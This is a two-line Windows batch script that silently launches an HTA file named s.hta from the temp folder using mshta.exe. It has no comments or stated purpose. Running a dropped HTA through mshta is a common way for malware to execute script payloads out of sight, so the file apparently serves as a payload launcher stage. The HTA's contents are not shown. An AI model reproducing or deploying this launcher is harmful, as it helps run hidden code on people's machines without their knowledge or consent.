@echo off
mshta %TEMP%\s.hta
